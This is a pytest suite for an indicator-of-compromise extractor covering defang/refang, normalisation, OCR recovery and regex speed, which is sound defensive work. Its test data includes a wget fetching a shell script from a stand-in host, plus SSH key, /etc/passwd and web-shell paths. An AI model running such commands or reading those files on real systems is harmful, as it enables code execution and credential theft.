# SPDX-License-Identifier: GPL-3.0-or-later
"""Tests for desktop.core.indicators: the labelled set, refang/defang, normalisation, OCR, speed."""

from __future__ import annotations

import ipaddress
import json
import string
import time
from collections import Counter, defaultdict
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from desktop.core import indicators as ind
from desktop.core.indicators import classify, defang, extract, normalise, refang

CASES = Path(__file__).resolve().parents[2] / "data" / "indicators" / "cases.json"


def _cases() -> list[dict[str, Any]]:
    data: list[dict[str, Any]] = json.loads(CASES.read_text(encoding="utf-8"))
    return data


def _pairs(text: str, ocr: bool = False) -> set[tuple[str, str]]:
    return {(f.type, f.value) for f in extract(text, ocr=ocr)}


# ---------------------------------------------------------------------------------------------
# The labelled set (numbers in docs/indicators.md; thresholds a bit below what was measured)
# ---------------------------------------------------------------------------------------------

# Per type: (precision, recall) floors. Measured 1.00 / 1.00 for every type (docs/indicators.md).
MEASURED_FLOOR = {
    "ipv4": (0.95, 0.95),
    "ipv6": (0.9, 0.9),
    "cidr": (0.9, 0.9),
    "domain": (0.95, 0.95),
    "url": (0.95, 0.95),
    "email": (0.95, 0.95),
    "md5": (0.9, 0.9),
    "sha1": (0.9, 0.9),
    "sha256": (0.9, 0.9),
    "file_path": (0.9, 0.9),
    "file_name": (0.9, 0.9),
    "asn": (0.9, 0.9),
}


def _score(ocr_override: bool | None = None, source: str | None = None) -> dict[str, dict[str, int]]:
    counts: dict[str, dict[str, int]] = defaultdict(lambda: {"tp": 0, "fp": 0, "fn": 0})
    for case in _cases():
        if source is not None and case["source"] != source:
            continue
        ocr = case["ocr"] if ocr_override is None else ocr_override
        got = _pairs(case["text"], ocr)
        exp = {(e["type"], e["value"]) for e in case["expected"]}
        for t, v in got | exp:
            key = "tp" if (t, v) in got and (t, v) in exp else "fp" if (t, v) in got else "fn"
            counts[t][key] += 1
            counts["ALL"][key] += 1
    return counts


def test_labelled_set_is_well_formed() -> None:
    cases = _cases()
    assert 40 <= len(cases) <= 80
    assert {c["source"] for c in cases} == {"phishing", "defanged", "ocr"}
    for case in cases:
        for e in case["expected"]:
            assert e["type"] in ind.TYPES
            assert normalise(e["type"], e["value"]) == e["value"], case["id"]


@pytest.mark.parametrize("type_", sorted(MEASURED_FLOOR))
def test_labelled_set_precision_and_recall_per_type(type_: str) -> None:
    c = _score()[type_]
    precision = c["tp"] / (c["tp"] + c["fp"]) if c["tp"] + c["fp"] else 1.0
    recall = c["tp"] / (c["tp"] + c["fn"]) if c["tp"] + c["fn"] else 1.0
    floor_p, floor_r = MEASURED_FLOOR[type_]
    assert precision >= floor_p, c
    assert recall >= floor_r, c


def test_ocr_mode_gains_recall_on_ocr_text_without_losing_precision() -> None:
    on = _score(source="ocr")["ALL"]
    off = _score(ocr_override=False, source="ocr")["ALL"]
    assert on["tp"] / (on["tp"] + on["fn"]) >= 0.95  # measured 1.00; 0.69 with ocr=False
    assert off["tp"] / (off["tp"] + off["fn"]) < 0.8
    assert on["fp"] <= 1


def test_ocr_mode_does_not_hurt_ordinary_text() -> None:
    for source in ("phishing", "defanged"):
        c = _score(ocr_override=True, source=source)["ALL"]
        assert c["tp"] / (c["tp"] + c["fp"]) >= 0.95


# ---------------------------------------------------------------------------------------------
# Offsets, occurrences and derived indicators
# ---------------------------------------------------------------------------------------------


def test_offsets_point_at_the_raw_text_in_the_original() -> None:
    text = "Beacon hxxps[:]//evil-site[.]com/a?b=1 then 1.2.3[.]4 and admin[at]evil-site(dot)com"
    found = extract(text)
    for f in found:
        assert text[f.start : f.end] == f.raw
    by_type = {(f.type, f.raw) for f in found}
    assert ("url", "hxxps[:]//evil-site[.]com/a?b=1") in by_type
    assert ("domain", "evil-site[.]com") in by_type
    assert ("ipv4", "1.2.3[.]4") in by_type
    assert ("email", "admin[at]evil-site(dot)com") in by_type


def test_every_occurrence_is_returned_once() -> None:
    text = "1.2.3.4 talks to 1.2.3.4 and 5.6.7.8"
    found = [f for f in extract(text) if f.type == "ipv4"]
    assert [(f.value, f.start) for f in found] == [("1.2.3.4", 0), ("1.2.3.4", 17), ("5.6.7.8", 29)]
    assert ind.unique_values(found) == [("ipv4", "1.2.3.4"), ("ipv4", "5.6.7.8")]


def test_url_host_and_email_domain_are_also_reported() -> None:
    assert _pairs("http://198.51.100.7:8080/x and https://Evil.EXAMPLE.com./y and bob@mail.evil.org") == {
        ("url", "http://198.51.100.7:8080/x"),
        ("ipv4", "198.51.100.7"),
        ("url", "https://evil.example.com/y"),  # trailing dot of the host stripped
        ("domain", "evil.example.com"),
        ("email", "bob@mail.evil.org"),
        ("domain", "mail.evil.org"),
    }


def test_nothing_inside_a_url_is_reported_separately() -> None:
    text = "https://x.run.app/a/?tr=4d5df462a4364941bab1a5457f704fa9&u=other.com/f.exe"
    assert {t for t, _ in _pairs(text)} == {"url", "domain"}


def test_message_id_is_not_an_email_but_its_domain_is_a_domain() -> None:
    text = "Message-ID:\n <20230101.abc@mail.sender.example.com>\nFrom: Alice <alice@sender.example.com>"
    assert _pairs(text) == {
        ("domain", "mail.sender.example.com"),
        ("email", "alice@sender.example.com"),
        ("domain", "sender.example.com"),
    }


def test_url_trailing_punctuation_and_brackets() -> None:
    assert ("url", "https://a.example.com/x_(y)") in _pairs("see (https://a.example.com/x_(y)).")
    assert ("url", "https://b.example.com/p") in _pairs("[link](https://b.example.com/p), then")


# ---------------------------------------------------------------------------------------------
# Domain versus file name versus nothing
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("example.com", {("domain", "example.com")}),
        ("file.txt", {("file_name", "file.txt")}),
        ("object.method", set()),
        ("self.name and e.target", set()),
        ("paypal-secure.link", {("domain", "paypal-secure.link")}),
        ("README.md", {("file_name", "README.md")}),
        ("backup.zip", {("file_name", "backup.zip")}),
        ("invoice.pdf.zip", {("file_name", "invoice.pdf.zip")}),
        ("ii-dnuqnaqtnq-rj.a.run.app", {("domain", "ii-dnuqnaqtnq-rj.a.run.app")}),
        ("invoice_2020.pdf.exe", {("file_name", "invoice_2020.pdf.exe")}),
        ("version 2.4.1 and Fig. 3", set()),
        ("t.me and bit.ly", {("domain", "t.me"), ("domain", "bit.ly")}),
    ],
)
def test_domain_or_file_name(text: str, expected: set[tuple[str, str]]) -> None:
    assert _pairs(text) == expected


def test_ip_rules() -> None:
    assert _pairs("version 1.2.3.4") == {("ipv4", "1.2.3.4")}  # documented: shape cannot tell
    assert _pairs("999.1.1.1 and 1.2.3.4.5 and 10.0.19041.1") == set()
    assert _pairs("010.001.002.003") == {("ipv4", "10.1.2.3")}
    assert _pairs("10.0.0.0/8 and 192.168.1.10/24") == {
        ("cidr", "10.0.0.0/8"),
        ("cidr", "192.168.1.0/24"),
        ("ipv4", "192.168.1.10"),
    }
    assert _pairs("2001:0DB8:0000::0001 and fe80::1ff:fe23:4567:890a") == {
        ("ipv6", "2001:db8::1"),
        ("ipv6", "fe80::1ff:fe23:4567:890a"),
    }
    assert _pairs("at 12:30:45, std::vector, a::b, 00:1A:2B:3C:4D:5E") == set()


def test_hashes_only_as_whole_hex_words() -> None:
    md5 = "d41d8cd98f00b204e9800998ecf8427e"
    sha1 = "DA39A3EE5E6B4B0D3255BFEF95601890AFD80709"
    sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
    assert _pairs(f"{md5} {sha1} {sha256}") == {
        ("md5", md5),
        ("sha1", sha1.lower()),
        ("sha256", sha256),
    }
    assert _pairs(f"x{md5} {md5}0 {md5[:-1]} {md5}g") == set()


def test_asn() -> None:
    assert _pairs("AS12345, ASN 9009 and ASN13335") == {
        ("asn", "AS12345"),
        ("asn", "AS9009"),
        ("asn", "AS13335"),
    }
    assert _pairs("as 5 of them, BASE64, AS0") == set()


# ---------------------------------------------------------------------------------------------
# Paths
# ---------------------------------------------------------------------------------------------


def test_paths_and_their_file_names() -> None:
    text = (
        "C:\\Users\\Public\\Videos\\video.mp4, \\\\server\\share\\file.docx, "
        "C:\\Program Files\\Evil Corp\\x.exe, %TEMP%\\a.bat, /var/www/html/shell.php, "
        "~/.ssh/id_rsa and C:\\\\Users\\\\admin\\\\doubled.txt"
    )
    assert _pairs(text) == {
        ("file_path", "C:\\Users\\Public\\Videos\\video.mp4"),
        ("file_name", "video.mp4"),
        ("file_path", "\\\\server\\share\\file.docx"),
        ("file_name", "file.docx"),
        ("file_path", "C:\\Program Files\\Evil Corp\\x.exe"),
        ("file_name", "x.exe"),
        ("file_path", "%TEMP%\\a.bat"),
        ("file_name", "a.bat"),
        ("file_path", "/var/www/html/shell.php"),
        ("file_name", "shell.php"),
        ("file_path", "~/.ssh/id_rsa"),
        ("file_path", "C:\\Users\\admin\\doubled.txt"),
        ("file_name", "doubled.txt"),
    }


def test_posix_noise_is_not_a_path() -> None:
    assert _pairs("and/or, 1/2, Russia/Moscow, dns/txt, /tmp alone") == set()


# ---------------------------------------------------------------------------------------------
# OCR
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ping185.141.63.120", {("ipv4", "185.141.63.120")}),
        ("cdC:\\Users\\admin\\Desktop\\payload", {("file_path", "C:\\Users\\admin\\Desktop\\payload")}),
        ("wgethttp://dl.bad.ru/z.sh", {("url", "http://dl.bad.ru/z.sh"), ("domain", "dl.bad.ru")}),
        ("Connecting to 185.141 .63.120:443", {("ipv4", "185.141.63.120")}),
        ("Host 185.141. 63.120 is up", {("ipv4", "185.141.63.120")}),
        ("l85.l41.63.120", {("ipv4", "185.141.63.120")}),
        ("ssh admin@10.O.0.5", {("ipv4", "10.0.0.5")}),
        ("nslookup evil-site .com", {("domain", "evil-site.com")}),
        ("tail -f/var/log/auth.log", {("file_path", "/var/log/auth.log"), ("file_name", "auth.log")}),
        ("Total: 12.5 MB, l.5 s, version 1.0l, Oil.lo.IO.lo", set()),
        ("I went home. Then left", set()),
    ],
)
def test_ocr_recovery(text: str, expected: set[tuple[str, str]]) -> None:
    assert _pairs(text, ocr=True) == expected


def test_ocr_recovery_is_off_by_default() -> None:
    assert _pairs("ping185.141.63.120 cdC:\\Users\\x l85.l41.63.120") == set()


def test_ocr_confusion_repair_needs_a_valid_ip() -> None:
    assert _pairs("lOO.lOO.O.l", ocr=True) == set()  # too many repairs
    assert _pairs("9l9.1.1.1", ocr=True) == set()  # 919 is not an octet


# ---------------------------------------------------------------------------------------------
# refang / defang / normalise / classify
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("defanged", "plain"),
    [
        ("hxxp://evil[.]com/a", "http://evil.com/a"),
        ("hXXps[:]//evil(.)com", "https://evil.com"),
        ("hxxps[://]evil{.}com", "https://evil.com"),
        ("fxp://files[.]example[.]org", "ftp://files.example.org"),
        ("1.2.3[.]4", "1.2.3.4"),
        ("bob[at]example[dot]com", "bob@example.com"),
        ("bob [at] example [dot] com", "bob@example.com"),
        ("bob[@]example[.]com", "bob@example.com"),
        ("meet me at the dot", "meet me at the dot"),
    ],
)
def test_refang(defanged: str, plain: str) -> None:
    assert refang(defanged) == plain


@pytest.mark.parametrize(
    ("type_", "value", "defanged"),
    [
        ("url", "https://evil.example.com/a.php?x=1", "hxxps://evil[.]example[.]com/a.php?x=1"),
        ("url", "ftp://files.example.org/x", "fxp://files[.]example[.]org/x"),
        ("domain", "evil.example.com", "evil[.]example[.]com"),
        ("ipv4", "1.2.3.4", "1[.]2[.]3[.]4"),
        ("email", "bob.smith@example.com", "bob.smith[@]example[.]com"),
        ("sha256", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", None),
        ("file_path", "C:\\x\\y.exe", None),
    ],
)
def test_defang_round_trip(type_: str, value: str, defanged: str | None) -> None:
    out = defang(value, type_)
    assert out == (value if defanged is None else defanged)
    assert refang(out) == value
    assert normalise(type_, out) == value


_label = st.text(alphabet=string.ascii_lowercase + string.digits, min_size=1, max_size=12)


_tld = st.sampled_from(["com", "org", "ru", "xyz", "io"])


@given(labels=st.lists(_label, min_size=1, max_size=4), tld=_tld)
@settings(max_examples=200, deadline=None)
def test_property_domains_round_trip_and_are_found(labels: list[str], tld: str) -> None:
    domain = ".".join([*labels, tld])
    assert refang(defang(domain, "domain")) == domain
    found = _pairs(f"see {defang(domain, 'domain')} now")
    assert ("domain", domain) in found


@given(st.ip_addresses(v=4))
@settings(max_examples=200, deadline=None)
def test_property_ipv4_round_trip_and_is_found(ip: ipaddress.IPv4Address) -> None:
    value = str(ip)
    assert refang(defang(value, "ipv4")) == value
    assert _pairs(f"C2 at {defang(value, 'ipv4')}.") == {("ipv4", value)}


@given(st.ip_addresses(v=6))
@settings(max_examples=200, deadline=None)
def test_property_ipv6_is_found_in_compressed_form(ip: ipaddress.IPv6Address) -> None:
    # RFC 5952: compressed, and an IPv4-mapped address in its dotted form (desktop.core.ip).
    want = f"::ffff:{ip.ipv4_mapped}" if ip.ipv4_mapped is not None else ip.compressed
    found = _pairs(f"addr {ip.exploded} end")
    assert found <= {("ipv6", want)}
    if sum(1 for ch in ip.compressed if ch not in ":.") >= 4 and "." not in ip.compressed:
        assert found == {("ipv6", want)}


@given(st.text(max_size=300))
@settings(max_examples=300, deadline=None)
def test_property_extract_never_crashes_and_offsets_hold(text: str) -> None:
    for ocr in (False, True):
        for f in extract(text, ocr=ocr):
            assert text[f.start : f.end] == f.raw
            assert f.type in ind.TYPES


@pytest.mark.parametrize(
    ("type_", "value", "expected"),
    [
        ("domain", "Bücher.de.", "xn--bcher-kva.de"),
        ("domain", "ÄPPLE.com", "xn--pple-koa.com"),
        ("domain", "EXAMPLE.COM...", "example.com"),
        ("domain", "evil[.]com", "evil.com"),
        ("ipv4", "010.001.002.003", "10.1.2.3"),
        ("ipv6", "2001:0DB8:0000:0000:0000:0000:0000:0001", "2001:db8::1"),
        ("ipv6", "[FE80::1]", "fe80::1"),
        ("cidr", "10.0.0.5/8", "10.0.0.0/8"),
        ("cidr", "2001:DB8::/32", "2001:db8::/32"),
        (
            "url",
            "HXXPS://Evil.Example.COM:8443/Path/File.PHP?Q=A#F",
            "https://evil.example.com:8443/Path/File.PHP?Q=A#F",
        ),
        ("url", "http://user@Bücher.example/x", "http://user@xn--bcher-kva.example/x"),
        ("url", "http://[2001:DB8::1]:80/", "http://[2001:db8::1]:80/"),
        ("email", "Bob.Smith@Example.COM", "bob.smith@example.com"),
        ("md5", "D41D8CD98F00B204E9800998ECF8427E", "d41d8cd98f00b204e9800998ecf8427e"),
        ("asn", "asn 13335", "AS13335"),
        ("asn", "AS13335", "AS13335"),
        ("file_path", "C:\\\\Users\\\\Admin\\\\x.exe", "C:\\Users\\Admin\\x.exe"),
        ("file_path", "\\\\\\\\srv\\\\share\\\\x.docx", "\\\\srv\\share\\x.docx"),
        ("file_path", "/home//user/x", "/home/user/x"),
        ("file_name", "Invoice.PDF.exe", "Invoice.PDF.exe"),
    ],
)
def test_normalise(type_: str, value: str, expected: str) -> None:
    assert normalise(type_, value) == expected


@pytest.mark.parametrize(
    ("type_", "value"),
    [
        ("ipv4", "999.1.1.1"),
        ("ipv4", "1.2.3"),
        ("ipv6", "12:30"),
        ("domain", "file.txt"),
        ("domain", "localhost"),
        ("md5", "d41d8cd98f00b204e9800998ecf8427"),
        ("sha1", "d41d8cd98f00b204e9800998ecf8427e"),
        ("asn", "AS0"),
        ("email", "root@localhost"),
        ("url", "not a url"),
        ("nonsense", "x"),
    ],
)
def test_normalise_rejects(type_: str, value: str) -> None:
    with pytest.raises(ValueError, match=r"."):
        normalise(type_, value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("hxxps://evil[.]com/x", "url"),
        ("bob[at]evil[.]com", "email"),
        ("10.0.0.0/8", "cidr"),
        ("1.2.3[.]4", "ipv4"),
        ("2001:db8::1", "ipv6"),
        ("d41d8cd98f00b204e9800998ecf8427e", "md5"),
        ("da39a3ee5e6b4b0d3255bfef95601890afd80709", "sha1"),
        ("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "sha256"),
        ("AS13335", "asn"),
        ("C:\\Program Files\\x.exe", "file_path"),
        ("/etc/passwd", "file_path"),
        ("evil.example.com", "domain"),
        ("invoice.pdf.exe", "file_name"),
        ("@some_handle", None),
        ("+1 555 0100", None),
        ("", None),
    ],
)
def test_classify(value: str, expected: str | None) -> None:
    assert classify(value) == expected


# ---------------------------------------------------------------------------------------------
# Speed: linear-time patterns
# ---------------------------------------------------------------------------------------------

ADVERSARIAL = {
    "dots": "." * 100_000,
    "letters": "a" * 100_000,
    "dotted": "a." * 50_000,
    "digits": "1." * 50_000,
    "colons": ":" * 100_000,
    "hex_colons": "a:" * 50_000,
    "backslashes": "C:\\" + "\\" * 100_000,
    "win_spaces": "C:\\" + "a " * 50_000,
    "win_deep": "C:\\" + "a\\" * 50_000,
    "posix_deep": "/tmp" + "/a" * 50_000,
    "ats": "a@" * 50_000,
    "at_dots": "@a." * 33_000,
    "defanged": "hxxp[:]//" * 10_000,
    "long_url": "http://" + "a" * 100_000,
    "schemes": "://" * 33_000,
    "spaced_dots": "a ." * 33_000,
    "brackets": "[.]" * 33_000,
    "unc": "\\\\" + "a\\" * 50_000,
    "ocr_ip": "1 ." * 33_000,
    "ocr_confusables": "lO." * 33_000,
}


@pytest.mark.parametrize("name", sorted(ADVERSARIAL))
def test_adversarial_input_is_fast(name: str) -> None:
    text = ADVERSARIAL[name]
    for ocr in (False, True):
        t0 = time.perf_counter()
        extract(text, ocr=ocr)
        assert time.perf_counter() - t0 < 1.0, (name, ocr)


def test_one_megabyte_every_value_as_often_as_it_occurs() -> None:
    """On a megabyte, far denser than real mail, nothing is lost or made up between the snippets.

    Its speed is measured by ``tests/bench/extract_speed.py`` (a ratio to a regex scan of the same
    text in the same run), not here: a timed unit test fails on a loaded machine.
    """
    blob = "\n".join(c["text"] for c in _cases())
    copies = 1_000_000 // len(blob) + 1
    text = "\n".join([blob] * copies)
    once = Counter((f.type, f.value) for f in extract(blob))
    found = extract(text)
    assert len(found) > 10_000
    assert Counter((f.type, f.value) for f in found) == {k: n * copies for k, n in once.items()}
    assert all(text[f.start : f.end] == f.raw for f in found)
